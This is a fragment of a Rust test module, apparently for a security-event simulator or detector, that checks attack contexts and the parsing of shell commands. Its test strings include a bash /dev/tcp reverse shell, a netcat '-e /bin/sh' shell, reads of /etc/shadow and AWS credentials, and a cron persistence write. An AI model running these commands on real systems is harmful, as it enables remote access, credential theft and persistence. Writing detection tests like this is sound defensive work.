                    .any(|e| e.event.kind.as_deref() == Some(kind)),
                "attacks produce {kind} events"
            );
        }
        let contexts: std::collections::HashSet<&str> =
            malicious.iter().map(|e| e.label.context.as_str()).collect();
        for c in ["web-rce", "ssh-session", "cron", "ci-job"] {
            assert!(contexts.contains(c), "{c}");
        }
        // Every line is a valid replay event.
        for e in events.iter().take(2000) {
            let line = serde_json::to_string(e).unwrap();
            outlier_common::json::parse_line(&line, 0, || unreachable!()).unwrap();
        }
    }

    #[test]
    fn commands_cause_their_events() {
        assert_eq!(
            shell_words(r#"sh -c 'echo "a b"' x"#),
            ["sh", "-c", r#"echo "a b""#, "x"]
        );
        let w = shell_words("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1");
        assert_eq!(addresses(&w), [("10.0.0.1".to_string(), 4444)]);
        assert_eq!(
            addresses(&shell_words("nc 203.0.113.7 4444 -e /bin/sh")),
            [("203.0.113.7".to_string(), 4444)]
        );
        assert_eq!(
            files(&shell_words("cat /etc/shadow"), "/root"),
            [("/etc/shadow".to_string(), false)]
        );
        assert_eq!(
            files(&shell_words("echo x > /etc/cron.d/evil"), "/root"),
            [("/etc/cron.d/evil".to_string(), true)]
        );
        assert!(files(&shell_words("ls /var/www"), "/root").is_empty());
        // As the collector's filter: /etc/passwd reads are not reported,
        // a home's keys are, and /dev/shm writes are.
        assert!(files(&shell_words("cat /etc/passwd"), "/root").is_empty());
        assert_eq!(
            files(&shell_words("cat ~/.aws/credentials"), "/home/dev"),
            [("/home/dev/.aws/credentials".to_string(), false)]
        );
        assert!(reported_open("/dev/shm/.x", true));
        assert!(!reported_open("/dev/null", true));
        assert!(!reported_open("/proc/1/environ", false));
    }
}
